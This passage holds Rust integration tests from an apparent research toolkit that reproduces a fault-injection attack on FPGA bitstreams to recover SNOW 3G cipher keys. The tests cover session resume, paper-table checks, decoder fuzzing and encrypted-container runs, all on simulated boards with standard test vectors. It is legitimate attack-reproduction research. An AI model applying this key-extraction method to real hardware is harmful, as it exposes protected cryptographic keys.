        t0.elapsed().as_secs_f64(),
        report.keystream_changed,
        report.keystream_unchanged,
        report.rejected
    );
    match report.recovered_keys.len() {
        0 => println!(
            "keys recovered: 0 — as expected: linearising SNOW 3G needs 64 coordinated \
             LUT faults, which only the targeted attack can stage."
        ),
        n => println!("UNEXPECTED: {n} keys recovered"),
    }
    Ok(())
}
