//! Fleet-layer integration tests: kill-and-steal recovery through the
//! work-stealing scheduler, the loopback line-protocol server/client
//! pair, and a SIGKILL'd `bitmod serve` process whose sessions resume
//! on restart.
//!
//! The central claim under test extends tests/resume.rs one layer up:
//! a session interrupted *by worker death* and stolen by a peer must
//! recover the key with effort totals bit-identical to an
//! uninterrupted serial run of the same spec — the fleet journals
//! write-ahead and the steal replays the exact query trace.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use bitmod::fleet::{
    ClientError, Endpoint, Fleet, FleetClient, FleetConfig, FleetServer, SessionLayout,
    SessionOutcome, SessionSpec, SessionState,
};
use bitmod::telemetry::names;

fn temp_root(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("bitmod-fleet-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

#[test]
fn a_killed_workers_session_is_stolen_and_resumes_to_serial_totals() {
    let spec = SessionSpec::builder().noisy(true).seed(7).build().expect("valid spec");

    // The ground truth: one uninterrupted serial run of the same spec.
    let baseline = spec.run_local().expect("serial baseline completes");
    let SessionOutcome::Recovered(serial_stats) = baseline.outcome else {
        panic!("serial baseline did not recover: {:?}", baseline.outcome);
    };

    let root = temp_root("steal");
    let fleet = Fleet::start(FleetConfig::new(&root).workers(2)).expect("fleet starts");
    let handle = fleet.submit(spec).expect("submits");

    // Wait for the first write-ahead checkpoint, then kill the worker
    // running the session mid-attack.
    let deadline = Instant::now() + Duration::from_secs(600);
    let worker = loop {
        assert!(Instant::now() < deadline, "session never wrote a journal checkpoint");
        let status = handle.status();
        assert!(
            !status.state.is_terminal(),
            "session finished before the kill could land ({})",
            status.state.as_str()
        );
        if handle.layout().journal().exists() {
            if let Some(worker) = status.worker {
                break worker;
            }
        }
        std::thread::sleep(Duration::from_millis(2));
    };
    assert!(fleet.kill_worker(worker), "the kill switch reaches worker {worker}");

    let status = handle.wait_timeout(Duration::from_secs(600)).expect("session terminates");
    assert_eq!(status.state, SessionState::Recovered, "stolen session recovers ({})", status.note);
    assert!(status.steals >= 1, "the session changed hands");
    assert_eq!(
        status.stats, serial_stats,
        "stolen-and-resumed totals must be identical to the uninterrupted serial run"
    );
    assert!(handle.layout().result().exists(), "terminal result.json persisted");
    assert!(!handle.layout().journal().exists(), "journal removed after success");

    let counters = fleet.counters();
    assert!(counters.counter(names::FLEET_STEAL_COUNT) >= 1, "steal counted");
    assert!(counters.counter(names::FLEET_WORKERS_KILLED) >= 1, "worker death counted");
    assert!(counters.counter(names::FLEET_SESSIONS_RESUMED) >= 1, "resume-from-journal counted");
    fleet.shutdown();
    let _ = std::fs::remove_dir_all(&root);
}

#[test]
fn the_loopback_server_round_trips_the_line_protocol() {
    let root = temp_root("serve");
    let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("fleet starts");
    let server = FleetServer::bind(&Endpoint::parse("127.0.0.1:0"), fleet).expect("binds");
    let endpoint = server.endpoint().clone();
    let join = server.spawn();

    let mut client = FleetClient::connect(&endpoint).expect("connects");
    client.ping().expect("pong");

    let spec = SessionSpec::builder().batch(fpga_sim::GANG_LANES).build().expect("valid spec");
    let id = client.submit(&spec).expect("submits");
    assert!(id.starts_with('s'), "session ids are s-prefixed: {id}");

    // `tail` streams the worker's live NDJSON telemetry until the
    // session is terminal, then reports the terminal state.
    let mut tailed = Vec::new();
    let state = client.tail(&id, &mut tailed).expect("tails to completion");
    assert_eq!(state, "recovered");
    assert!(!tailed.is_empty(), "telemetry was streamed");

    let status = client.status(&id).expect("status");
    assert!(status.contains("\"state\":\"recovered\""), "unexpected status: {status}");
    let list = client.list().expect("list");
    assert!(list.contains(&id), "list carries the session: {list}");
    let counters = client.counters().expect("counters");
    assert!(counters.contains(names::FLEET_SESSIONS_DONE), "fleet counters exposed: {counters}");

    match client.cancel("s999999") {
        Err(ClientError::Server(message)) => {
            assert!(message.contains("unknown session"), "typed refusal: {message}");
        }
        other => panic!("cancelling an unknown id must fail on the server, got {other:?}"),
    }

    client.shutdown().expect("shutdown acknowledged");
    join.join().expect("server thread exits");
    let _ = std::fs::remove_dir_all(&root);
}

/// SIGKILLs a live `bitmod serve` daemon mid-session and asserts a
/// fresh daemon on the same root boot-scans the fleet directory and
/// resumes the orphaned session from its journal to key recovery.
#[cfg(unix)]
#[test]
fn a_sigkilled_daemon_resumes_its_sessions_on_restart() {
    use std::process::{Child, Command, Stdio};

    let root = temp_root("sigkill");
    std::fs::create_dir_all(&root).expect("test root");
    let fleet_root = root.join("fleet");
    let sock = |n: u32| root.join(format!("serve-{n}.sock"));

    let serve = |sock_path: &std::path::Path| -> Child {
        Command::new(env!("CARGO_BIN_EXE_bitmod"))
            .args([
                "serve",
                "--addr",
                &format!("unix:{}", sock_path.display()),
                "--root",
                &fleet_root.display().to_string(),
                "--workers",
                "1",
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("bitmod serve spawns")
    };
    let connect = |sock_path: &std::path::Path| -> FleetClient {
        let endpoint = Endpoint::Unix(sock_path.to_path_buf());
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            if let Ok(mut client) = FleetClient::connect(&endpoint) {
                if client.ping().is_ok() {
                    return client;
                }
            }
            assert!(Instant::now() < deadline, "server never came up on {}", sock_path.display());
            std::thread::sleep(Duration::from_millis(20));
        }
    };

    let mut first = serve(&sock(1));
    let mut client = connect(&sock(1));
    let spec = SessionSpec::builder().seed(3).build().expect("valid spec");
    let id = client.submit(&spec).expect("submits");

    // Wait for the session's first write-ahead checkpoint, then
    // SIGKILL the whole daemon — no drop handlers, no cleanup.
    let journal = SessionLayout::for_session(&fleet_root, &id).journal();
    let deadline = Instant::now() + Duration::from_secs(600);
    while !journal.exists() {
        assert!(Instant::now() < deadline, "session never journalled");
        let status = client.status(&id).expect("status");
        assert!(
            !status.contains("\"state\":\"recovered\""),
            "session finished before the SIGKILL could land"
        );
        std::thread::sleep(Duration::from_millis(2));
    }
    first.kill().expect("SIGKILL delivered");
    let _ = first.wait();

    let mut second = serve(&sock(2));
    let mut client = connect(&sock(2));
    let deadline = Instant::now() + Duration::from_secs(600);
    loop {
        let status = client.status(&id).expect("status after restart");
        if status.contains("\"state\":\"recovered\"") {
            break;
        }
        for terminal in ["failed", "cancelled", "exhausted"] {
            assert!(
                !status.contains(&format!("\"state\":\"{terminal}\"")),
                "resumed session must recover, ended: {status}"
            );
        }
        assert!(Instant::now() < deadline, "resumed session never finished");
        std::thread::sleep(Duration::from_millis(50));
    }
    client.shutdown().expect("clean shutdown");
    let _ = second.wait();
    let _ = std::fs::remove_dir_all(&root);
}
