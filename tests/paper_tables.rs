//! Exact reproduction checklist for the paper's constants and
//! exactly-reproducible tables (I, III, IV, V) plus the quoted packet
//! words and complexity figures. The bitstream-level reproduction of
//! Tables II/VI lives in `end_to_end.rs` / `countermeasure.rs`; the
//! regenerating harness is `cargo run -p bench --bin paper-tables`.

use bitmod::countermeasure::complexity;
use bitstream::packet::{CommandCode, Packet, RegisterAddress};
use bitstream::xi;
use snow3g::vectors::{
    PAPER_TABLE_III, PAPER_TABLE_IV, PAPER_TABLE_V, TEST_SET_1_IV, TEST_SET_1_KEY,
};
use snow3g::{recover_key, FaultSpec, FaultySnow3g, Iv, Key, Lfsr, Snow3g};

#[test]
fn table_i_xi_permutation() {
    // Table I, spot-checked rows plus the closed form over all 64.
    for i in 0..64u8 {
        assert_eq!(xi::xi(i), xi::XI_TABLE[i as usize]);
    }
    assert_eq!(xi::XI_TABLE[0], 63);
    assert_eq!(xi::XI_TABLE[1], 47);
    assert_eq!(xi::XI_TABLE[62], 0);
    assert_eq!(xi::XI_TABLE[63], 16);
}

#[test]
fn section_v_packet_words() {
    // The exact configuration words quoted in Section V.
    assert_eq!(Packet::type1_header(RegisterAddress::Fdri, 0), Ok(0x3000_4000));
    assert_eq!(Packet::type2_header(2_432_080), Ok(0x5025_1C50));
    assert_eq!(Packet::type1_header(RegisterAddress::Crc, 1), Ok(0x3000_0001));
    assert_eq!(Packet::type1_header(RegisterAddress::Cmd, 1), Ok(0x3000_8001));
    assert_eq!(CommandCode::Rcrc as u32, 0b00111);
}

#[test]
fn table_iii_exact() {
    let z = FaultySnow3g::new(Key([0; 4]), Iv([0; 4]), FaultSpec::key_independent()).keystream(16);
    assert_eq!(z, PAPER_TABLE_III);
}

#[test]
fn table_iv_exact() {
    let z = FaultySnow3g::new(TEST_SET_1_KEY, TEST_SET_1_IV, FaultSpec::alpha()).keystream(16);
    assert_eq!(z, PAPER_TABLE_IV);
}

#[test]
fn table_v_exact() {
    let mut lfsr = Lfsr::from_state(PAPER_TABLE_IV);
    lfsr.unclock_by(snow3g::REVERSAL_STEPS);
    assert_eq!(lfsr.state(), PAPER_TABLE_V);
}

#[test]
fn section_vi_d3_key_extraction() {
    // "From s4–s7, we can conclude that the key is
    //  0x2BD6459F82C5B300952C49104881FF48."
    let secret = recover_key(&PAPER_TABLE_IV).expect("recovers");
    assert_eq!(secret.key.to_string(), "2BD6459F82C5B300952C49104881FF48");
    // And the recovered IV is ETSI Test Set 1's IV, which pins down
    // the exact experiment the paper ran.
    assert_eq!(secret.iv, TEST_SET_1_IV);
}

#[test]
fn unfaulted_reference_keystream() {
    // The device without faults follows the ETSI test vector; this is
    // the Z the paper's verification step 6 compares against.
    let z = Snow3g::new(TEST_SET_1_KEY, TEST_SET_1_IV).keystream(2);
    assert_eq!(z, vec![0xABEE9704, 0x7AC31373]);
}

#[test]
fn section_vii_c_complexity() {
    let bits = complexity::log2_binomial(171, 32);
    assert!((114.0..116.0).contains(&bits), "C(171,32) ≈ 2^115, got 2^{bits:.2}");
    let x = complexity::required_decoy_multiple(128.0);
    assert!((4.8..5.0).contains(&x), "x ≥ 16/e − 1 ≈ 4.9, got {x:.3}");
}

#[test]
fn gamma_consistency_table_v() {
    // Table V's redundancy: s0 = s8, s3 = s11, s5 = s13, s6 = s14,
    // and the complements — visible directly in the published table.
    let s = PAPER_TABLE_V;
    assert_eq!(s[0], s[8]);
    assert_eq!(s[3], s[11]);
    assert_eq!(s[5], s[13]);
    assert_eq!(s[6], s[14]);
    assert_eq!(s[4], !s[0]);
    assert_eq!(s[7], !s[3]);
}
