//! Totality fuzz over the two on-disk/on-wire frame decoders: the
//! line protocol's [`wire::decode_line`] and the journal's
//! [`journal::decode_frame`]. Arbitrary bytes, truncated frames and
//! hostile length prefixes must come back as *typed* errors — never a
//! panic, and never an allocation sized by attacker-controlled input.

use bitmod::fleet::wire::{self, Request, WireError, MAX_LINE};
use bitmod::fleet::SessionSpec;
use bitmod::journal::{self, JournalError};
use proptest::prelude::*;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Any byte soup decodes to a request or a typed error.
    #[test]
    fn decode_line_is_total_on_random_bytes(
        bytes in proptest::collection::vec(any::<u8>(), 0..96),
    ) {
        match wire::decode_line(&bytes) {
            Ok(_) => {}
            Err(e) => prop_assert!(!e.to_string().is_empty(), "typed, printable error"),
        }
    }

    /// Every prefix of a valid request line — a mid-frame disconnect
    /// caught at any byte — decodes to a request or a typed error.
    #[test]
    fn every_truncation_of_a_valid_line_is_total(cut in 0usize..200) {
        let spec = SessionSpec::builder().noisy(true).seed(3).build().expect("valid spec");
        let line = Request::Submit { spec, token: Some("tok-7".into()) }.to_line();
        let bytes = line.as_bytes();
        let _ = wire::decode_line(&bytes[..cut.min(bytes.len())]);
    }

    /// A tokened submit round-trips through the wire verbatim.
    #[test]
    fn tokened_submits_roundtrip(seed in any::<u64>(), cursor in any::<u64>()) {
        let spec = SessionSpec::builder().seed(seed % 1_000_000).build().expect("valid spec");
        let submit = Request::Submit { spec, token: Some(format!("t{:x}", seed)) };
        prop_assert_eq!(Request::parse(&submit.to_line()).expect("parses"), submit);
        let tail = Request::Tail { id: "s42".into(), from: cursor };
        prop_assert_eq!(Request::parse(&tail.to_line()).expect("parses"), tail);
    }

    /// Random bytes never decode to a journal document: the frame
    /// decoder answers with a typed corruption error (magic, length
    /// and CRC all have to hold), and never panics.
    #[test]
    fn journal_decode_is_total_on_random_bytes(
        bytes in proptest::collection::vec(any::<u8>(), 0..160),
    ) {
        match journal::decode_frame(&bytes) {
            Ok(doc) => prop_assert!(false, "byte soup decoded to {doc:?}"),
            Err(e) => prop_assert!(e.is_corruption(), "typed corruption error, got {e:?}"),
        }
    }
}

/// An over-cap line is refused by length *before* UTF-8 validation or
/// any parsing — the reply to a flooding peer costs O(1).
#[test]
fn an_oversized_line_is_rejected_before_parsing() {
    let invalid_utf8 = vec![0xFFu8; MAX_LINE + 1];
    assert!(matches!(
        wire::decode_line(&invalid_utf8),
        Err(WireError::LineTooLong(n)) if n == MAX_LINE + 1
    ));
    let valid_ascii = vec![b'a'; MAX_LINE + 100];
    assert!(matches!(wire::decode_line(&valid_ascii), Err(WireError::LineTooLong(_))));
}

/// A journal header whose length prefix claims ~4 GiB fails fast with
/// a typed error: the decoder checks the claim against the bytes it
/// actually has and never allocates from the prefix.
#[test]
fn an_oversized_journal_length_prefix_fails_without_allocating() {
    let mut hostile = Vec::new();
    hostile.extend_from_slice(&journal::MAGIC);
    hostile.extend_from_slice(&journal::VERSION.to_le_bytes());
    hostile.extend_from_slice(&0u16.to_le_bytes());
    hostile.extend_from_slice(&u32::MAX.to_le_bytes());
    hostile.extend_from_slice(&[0u8; 32]);
    match journal::decode_frame(&hostile) {
        Err(JournalError::TooShort { got, need }) => {
            assert_eq!(got, hostile.len());
            assert!(need > u32::MAX as usize / 2, "the hostile claim is what is reported");
        }
        other => panic!("expected TooShort, got {other:?}"),
    }
}
