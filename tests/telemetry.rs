//! Telemetry inertness, the differential guarantee of the tracing
//! layer: an attack with the recorder attached must behave
//! bit-identically to one without it — same recovered key, same
//! physical query trace, same injected-fault trace, same journal
//! bytes. The recorder only *observes* (it reads stats deltas after
//! each query and writes to its own sink), so turning it on must
//! never perturb the RNG streams, the virtual clock, or the query
//! order. These tests fail if any future recording site forgets that.

use bitmod::campaign::CancelToken;
use bitmod::fleet::{ResumePolicy, SessionIo, SessionOutcome, SessionSpec};
use bitmod::resilient::ResilientStats;
use bitmod::telemetry::names;
use bitmod::{Metrics, Telemetry};
use fpga_sim::{FaultStats, ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};
use snow3g::Key;
use std::path::{Path, PathBuf};

/// The fault seed every deterministic assertion in this file pins.
const SEED: u64 = 7;

/// Ample ceiling for a full run at seed 7 (needs ≈3,100 attempts).
const BUDGET: u64 = 8_000;

/// A cut that lands mid-run (inside the key-independent phase).
const CUT: u64 = 600;

fn noisy_spec(budget: u64, journal: Option<&Path>, resume: bool) -> SessionSpec {
    let mut b = SessionSpec::builder().noisy(true).seed(SEED).budget(budget).resume(resume);
    if let Some(path) = journal {
        b = b.journal(path);
    }
    b.build().expect("valid spec")
}

fn flaky_board(spec: &SessionSpec) -> UnreliableBoard {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    UnreliableBoard::new(board, spec.fault_profile())
}

fn io(telemetry: Telemetry, journal: Option<&Path>, resume: ResumePolicy) -> SessionIo {
    SessionIo {
        journal: journal.map(Path::to_path_buf),
        resume,
        telemetry,
        cancel: CancelToken::new(),
        expected_key: Some(TEST_SET_1_KEY),
    }
}

fn scratch_path(tag: &str, ext: &str) -> PathBuf {
    std::env::temp_dir().join(format!("bitmod-telemetry-{tag}-{}.{ext}", std::process::id()))
}

/// Everything that must be identical between a traced and an untraced
/// run for the recorder to count as inert.
#[derive(Debug, PartialEq)]
struct Fingerprint {
    key: Key,
    oracle_loads: usize,
    resilience: ResilientStats,
    faults: FaultStats,
}

/// Runs the noisy journalled attack cut at [`CUT`] attempts, then
/// resumes it to completion — with or without a live recorder on both
/// legs. Returns the cut journal's raw bytes, the completed run's
/// fingerprint, and the resumed leg's metrics.
fn cut_and_resume(tag: &str, traced: bool) -> (Vec<u8>, Fingerprint, Metrics) {
    let path = scratch_path(tag, "journal");
    let _ = std::fs::remove_file(&path);

    let spec = noisy_spec(CUT, None, false);
    let board = flaky_board(&spec);
    let golden = board.extract_bitstream();
    let telemetry = if traced { Telemetry::new() } else { Telemetry::off() };
    let session = spec
        .run_harnessed(&board, golden, &io(telemetry, Some(&path), ResumePolicy::Never))
        .expect("cut run completes");
    assert!(
        matches!(session.outcome, SessionOutcome::Exhausted { .. }),
        "structured cut, got: {:?}",
        session.outcome
    );
    let journal_bytes = std::fs::read(&path).expect("the journal survives the cut");

    let spec = noisy_spec(BUDGET, None, false);
    let board = flaky_board(&spec);
    let golden = board.extract_bitstream();
    let telemetry = if traced { Telemetry::new() } else { Telemetry::off() };
    let session = spec
        .run_harnessed(&board, golden, &io(telemetry.clone(), Some(&path), ResumePolicy::Require))
        .expect("resumed run completes");
    let report = session.attack.expect("resumed run recovers");

    let fingerprint = Fingerprint {
        key: report.recovered.key,
        oracle_loads: report.oracle_loads,
        resilience: report.resilience,
        faults: board.fault_stats(),
    };
    (journal_bytes, fingerprint, telemetry.metrics())
}

#[test]
fn tracing_is_inert_across_cut_resume_and_journal_bytes() {
    let (journal_off, run_off, metrics_off) = cut_and_resume("off", false);
    let (journal_on, run_on, metrics_on) = cut_and_resume("on", true);

    assert_eq!(run_off.key, TEST_SET_1_KEY, "untraced run recovers the key");
    assert_eq!(run_on.key, TEST_SET_1_KEY, "traced run recovers the key");
    assert_eq!(run_on, run_off, "recorder perturbed the query or fault trace");
    assert_eq!(journal_on, journal_off, "recorder perturbed the journal bytes");

    // And the recorder itself: off records nothing, on records the
    // resumed leg's queries.
    assert!(metrics_off.is_empty(), "a disabled recorder accumulates nothing");
    assert!(metrics_on.counter(names::ORACLE_QUERIES) > 0, "a live recorder saw the queries");
}

#[test]
fn metrics_reconcile_with_the_report_and_are_deterministic() {
    let run = || {
        let spec = noisy_spec(BUDGET, None, false);
        let board = flaky_board(&spec);
        let golden = board.extract_bitstream();
        let telemetry = Telemetry::new();
        let session = spec
            .run_harnessed(&board, golden, &io(telemetry.clone(), None, ResumePolicy::Never))
            .expect("session runs");
        let report = session.attack.expect("recovers");
        assert_eq!(report.recovered.key, TEST_SET_1_KEY);
        (report.oracle_loads, report.resilience, telemetry.metrics())
    };
    let (loads_a, stats_a, metrics_a) = run();
    let (loads_b, stats_b, metrics_b) = run();

    // Same seed, same trace: metric bags are exactly reproducible
    // (no wall-clock time leaks into [`Metrics`]).
    assert_eq!(metrics_a, metrics_b, "metrics must be a pure function of the seed");
    assert_eq!((loads_a, stats_a), (loads_b, stats_b));

    // The per-query deltas the recorder summed must reconcile with
    // the oracle's own totals — nothing double- or under-counted.
    assert_eq!(metrics_a.counter(names::ORACLE_LOADS), loads_a as u64);
    assert_eq!(metrics_a.counter(names::ORACLE_QUERIES), stats_a.queries);
    assert_eq!(metrics_a.counter(names::ORACLE_RETRIES), stats_a.transient_errors);
    assert_eq!(metrics_a.counter(names::ORACLE_BACKOFF_MS), stats_a.backoff_ms);

    // Histograms conserve the same totals.
    let per_query = metrics_a.histogram(names::ORACLE_LOADS_PER_QUERY).expect("histogram kept");
    assert_eq!(per_query.count(), stats_a.queries);
    assert_eq!(per_query.sum(), loads_a as u64);
}

#[test]
fn the_ndjson_trace_is_well_formed() {
    let path = scratch_path("trace", "ndjson");
    let _ = std::fs::remove_file(&path);

    let spec = noisy_spec(BUDGET, None, false);
    let board = flaky_board(&spec);
    let golden = board.extract_bitstream();
    let telemetry = Telemetry::to_path(&path).expect("sink opens");
    let session = spec
        .run_harnessed(&board, golden, &io(telemetry.clone(), None, ResumePolicy::Never))
        .expect("session runs");
    let report = session.attack.expect("recovers");
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    let fs = board.fault_stats();
    telemetry.record_board_faults(
        fs.loads_attempted,
        fs.transient_failures,
        fs.timeouts,
        fs.truncated_reads,
        fs.bits_flipped,
    );
    telemetry.finish().expect("flushes without sink errors");

    let text = std::fs::read_to_string(&path).expect("trace written");
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines.len() > 10, "a full run emits a real event stream, got {}", lines.len());
    assert!(lines[0].contains("\"ev\":\"trace_start\""), "first event: {}", lines[0]);
    assert!(lines[0].contains("\"schema\":1"), "schema version stamped: {}", lines[0]);
    assert!(
        lines.last().unwrap().contains("\"ev\":\"summary\""),
        "last event: {}",
        lines.last().unwrap()
    );

    let mut last_seq = None;
    let mut opens = 0u32;
    let mut closes = 0u32;
    let mut queries = 0u32;
    for line in &lines {
        assert!(
            line.starts_with('{') && line.ends_with('}'),
            "each line is one JSON object: {line}"
        );
        let seq: u64 = line
            .strip_prefix("{\"seq\":")
            .and_then(|r| r.split(',').next())
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("event carries a leading seq: {line}"));
        if let Some(prev) = last_seq {
            assert!(seq > prev, "seq strictly increases: {prev} then {seq}");
        }
        last_seq = Some(seq);
        if line.contains("\"ev\":\"span_open\"") {
            opens += 1;
        }
        if line.contains("\"ev\":\"span_close\"") {
            closes += 1;
        }
        if line.contains("\"ev\":\"query\"") {
            queries += 1;
        }
    }
    assert_eq!(opens, closes, "every span that opens also closes");
    assert!(opens >= 5, "the attack phases appear as spans, got {opens}");
    assert_eq!(u64::from(queries), report.resilience.queries, "one query event per oracle query");
    assert!(text.contains("\"ev\":\"board\""), "board fault accounting recorded");

    let _ = std::fs::remove_file(&path);
}
