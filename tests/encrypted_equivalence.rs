//! Encrypted/plaintext differential layer: the whole attack run over
//! the Fig. 1 sealed container must be *bit-identical* to the run
//! over the plaintext bitstream — same recovered key, same per-query
//! keystreams, same load accounting, same journal totals across a
//! kill-and-resume. The container is pure overhead the attack pays,
//! never a behavioural fork.

use std::cell::RefCell;
use std::path::PathBuf;

use bitmod::campaign::CancelToken;
use bitmod::fleet::{ResumePolicy, SessionIo, SessionOutcome, SessionSpec};
use bitmod::journal::AttackJournal;
use bitmod::oracle::{KeystreamOracle, OracleError};
use bitmod::telemetry::names;
use bitmod::{Telemetry, SCA_TRACES_REQUIRED};
use bitstream::Bitstream;
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

fn clean_board() -> Snow3gBoard {
    Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds")
}

fn io(telemetry: Telemetry) -> SessionIo {
    SessionIo {
        journal: None,
        resume: ResumePolicy::Never,
        telemetry,
        cancel: CancelToken::new(),
        expected_key: Some(TEST_SET_1_KEY),
    }
}

/// A pass-through oracle that records every keystream the device
/// returns, in order — the probe that lets the differential tests
/// compare *per-query* traffic, not just totals.
struct Recorder<'a> {
    inner: &'a dyn KeystreamOracle,
    log: RefCell<Vec<Vec<u32>>>,
}

impl<'a> Recorder<'a> {
    fn new(inner: &'a dyn KeystreamOracle) -> Self {
        Self { inner, log: RefCell::new(Vec::new()) }
    }
}

impl KeystreamOracle for Recorder<'_> {
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        let out = self.inner.keystream(bitstream, words);
        if let Ok(ks) = &out {
            self.log.borrow_mut().push(ks.clone());
        }
        out
    }

    fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        let out = self.inner.keystream_batch(bitstreams, words);
        for ks in out.iter().flatten() {
            self.log.borrow_mut().push(ks.clone());
        }
        out
    }
}

#[test]
fn the_encrypted_attack_recovers_the_key_from_the_sealed_container() {
    let board = clean_board();
    let golden = board.extract_bitstream();
    let spec = SessionSpec::builder().encrypted(true).build().expect("valid spec");
    let telemetry = Telemetry::new();
    let report =
        spec.run_harnessed(&board, golden, &io(telemetry)).expect("encrypted session runs");
    let SessionOutcome::Recovered(stats) = &report.outcome else {
        panic!("encrypted attack did not recover: {:?}", report.outcome);
    };
    let attack = report.attack.as_ref().expect("attack report");
    assert_eq!(attack.recovered.key, TEST_SET_1_KEY);
    assert_eq!(attack.recovered.iv, TEST_SET_1_IV);

    // The accounting shows the run actually went through the
    // container: every physical load was shipped as ciphertext, and
    // the SCA budget was spent once, up front.
    assert_eq!(report.metrics.counter(names::ENCRYPTED_LOADS), stats.physical);
    assert_eq!(report.metrics.counter(names::SCA_TRACES), u64::from(SCA_TRACES_REQUIRED));
    let reencrypted = report.metrics.counter(names::ENCRYPTED_BLOCKS_REENCRYPTED);
    let reused = report.metrics.counter(names::ENCRYPTED_BLOCKS_REUSED);
    assert!(reencrypted > 0, "candidate loads re-encrypt their dirty window");
    assert!(
        reused > 0,
        "the seekable patch oracle must reuse clean prefix blocks, not reseal everything"
    );
}

#[test]
fn encrypted_and_plaintext_runs_are_query_for_query_identical() {
    // Plaintext arm.
    let board = clean_board();
    let golden = board.extract_bitstream();
    let plain_recorder = Recorder::new(&board);
    let spec = SessionSpec::builder().build().expect("valid spec");
    let plain = spec
        .run_harnessed(&plain_recorder, golden.clone(), &io(Telemetry::off()))
        .expect("plaintext session runs");

    // Encrypted arm, over the same physical device.
    let enc_recorder = Recorder::new(&board);
    let spec = SessionSpec::builder().encrypted(true).build().expect("valid spec");
    let encrypted = spec
        .run_harnessed(&enc_recorder, golden, &io(Telemetry::off()))
        .expect("encrypted session runs");

    let plain_attack = plain.attack.expect("plaintext attack report");
    let enc_attack = encrypted.attack.expect("encrypted attack report");
    assert_eq!(plain_attack.recovered.key, enc_attack.recovered.key);
    assert_eq!(plain_attack.recovered.key, TEST_SET_1_KEY);
    assert_eq!(
        plain_attack.oracle_loads, enc_attack.oracle_loads,
        "the container must not change the 545-load accounting"
    );
    assert_eq!(plain_attack.resilience, enc_attack.resilience);

    // The strongest form of the claim: the device answered the same
    // queries with the same keystreams, in the same order.
    let plain_log = plain_recorder.log.into_inner();
    let enc_log = enc_recorder.log.into_inner();
    assert_eq!(plain_log.len(), enc_log.len(), "query counts diverged");
    assert_eq!(plain_log, enc_log, "per-query keystreams diverged");
}

#[test]
fn noisy_encrypted_runs_match_noisy_plaintext_runs() {
    // The fault stream is keyed by (seed, load index) on the inner
    // board; shipping loads through the container must not shift it.
    let plain_spec = SessionSpec::builder().noisy(true).seed(7).build().expect("valid spec");
    let plain = plain_spec.run_local().expect("plaintext noisy run");
    let SessionOutcome::Recovered(plain_stats) = plain.outcome else {
        panic!("plaintext noisy run did not recover: {:?}", plain.outcome);
    };

    let enc_spec =
        SessionSpec::builder().noisy(true).seed(7).encrypted(true).build().expect("valid spec");
    let encrypted = enc_spec.run_local().expect("encrypted noisy run");
    let SessionOutcome::Recovered(enc_stats) = encrypted.outcome else {
        panic!("encrypted noisy run did not recover: {:?}", encrypted.outcome);
    };

    assert_eq!(plain_stats, enc_stats, "noisy totals must be bit-identical through the container");
}

fn journal_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!("bitmod-encrypted-{tag}-{}.journal", std::process::id()))
}

#[test]
fn a_killed_encrypted_run_resumes_to_identical_journal_totals() {
    // Ground truth: one uninterrupted encrypted noisy run.
    let spec = SessionSpec::builder().noisy(true).seed(7).encrypted(true).build().expect("spec");
    let truth = spec.run_local().expect("uninterrupted encrypted run");
    let SessionOutcome::Recovered(truth_stats) = truth.outcome else {
        panic!("uninterrupted run did not recover: {:?}", truth.outcome);
    };

    // The kill: the same spec, journalled, budget-cut mid-attack.
    let path = journal_path("resume");
    let _ = std::fs::remove_file(&path);
    let cut = (truth_stats.physical / 3).max(1);
    let spec = SessionSpec::builder()
        .noisy(true)
        .seed(7)
        .encrypted(true)
        .budget(cut)
        .journal(&path)
        .build()
        .expect("spec");
    let report = spec.run_local().expect("cut run returns structured outcome");
    let SessionOutcome::Exhausted { summary, .. } = &report.outcome else {
        panic!("the cut budget must exhaust, got {:?}", report.outcome);
    };
    assert!(report.checkpoint.is_some(), "exhaustion names a checkpoint");
    assert!(path.exists(), "the journal survives the kill: {summary}");

    // The journal carries the SCA accounting, so the resumed process
    // reports the traces the dead one spent.
    let doc = AttackJournal::new(&path).load().expect("journal loads");
    assert_eq!(doc.sca_traces, SCA_TRACES_REQUIRED);

    // The new process: same spec, raised budget, resume from journal.
    let spec = SessionSpec::builder()
        .noisy(true)
        .seed(7)
        .encrypted(true)
        .budget(truth_stats.physical * 2)
        .journal(&path)
        .resume(true)
        .build()
        .expect("spec");
    let resumed = spec.run_local().expect("resumed run completes");
    let SessionOutcome::Recovered(resumed_stats) = resumed.outcome else {
        panic!("resumed run did not recover: {:?}", resumed.outcome);
    };
    assert_eq!(
        resumed_stats, truth_stats,
        "killed-and-resumed encrypted totals must replay the uninterrupted trace"
    );
    let attack = resumed.attack.expect("attack report");
    assert_eq!(attack.recovered.key, TEST_SET_1_KEY);
    assert!(!path.exists(), "the journal removes itself on success");
}
