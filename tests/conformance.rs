//! 3GPP/ETSI SNOW 3G conformance suite.
//!
//! Pins the cipher core against `snow3g::vectors`, so any drift in
//! the core — or in the vector constants themselves — fails CI. Two
//! tiers of anchoring: Test Sets 1 and 4 (with its long-run word
//! `z_2500`) are the externally published SAGE implementors' values;
